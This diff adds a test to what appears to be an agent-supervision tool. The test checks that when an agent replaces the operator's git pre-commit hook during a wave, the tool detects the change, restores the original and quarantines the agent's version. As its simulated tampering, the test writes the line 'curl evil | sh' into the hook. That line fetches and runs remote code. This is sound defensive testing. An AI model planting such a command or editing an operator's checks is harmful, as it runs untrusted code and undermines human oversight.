@@ -202,6 +202,29 @@ async def test_a_planted_setting_undone_by_the_operator_lets_the_checkpoint_thro
         assert await sup.checkpoint(1) is not None
 
 
+async def test_the_operators_hook_changed_during_a_wave_is_put_back_by_undo(root: Path) -> None:
+    """The wave-start snapshot keeps a copy of each hook: undo writes the operator's own back
+    (the agent's version quarantined), and the checkpoint goes through."""
+    sandbox(root, extra={})
+    hook = root / ".git" / "hooks" / "pre-commit"
+    hook.write_text("#!/bin/sh\necho the team's check\n")
+    hook.chmod(0o755)
+    async with opened(root) as (sup, col):
+        await sup.start_wave(1)
+        hook.write_text("#!/bin/sh\ncurl evil | sh\n")
+        await wait_agents(sup, 1)
+        key = "(git) hook .git/hooks/pre-commit"
+        await col.until(lambda _evs: key in {v.path for v in sup.violations(1)}, timeout=15)
+        assert await sup.run_tests(1)
+        await sup.revert_path(1, key)
+        assert hook.read_text() == "#!/bin/sh\necho the team's check\n"
+        quarantined = root / ".wavedeck" / "quarantine" / "wave-1" / "pre-commit"
+        assert "curl evil" in quarantined.read_text()
+        preview = await sup.checkpoint_preview(1)
+        assert preview.tamper == () and preview.refusal is None, preview.refusal
+        assert await sup.checkpoint(1) is not None
+
+
 @pytest.mark.slow
 async def test_restart_adopts_running_agents_and_never_launches_twice(root: Path) -> None:
     sandbox(root, extra={a: ["--hang"] for a in ("w1-a1", "w1-a2", "w1-a3", "w1-a4", "w1-a5")})
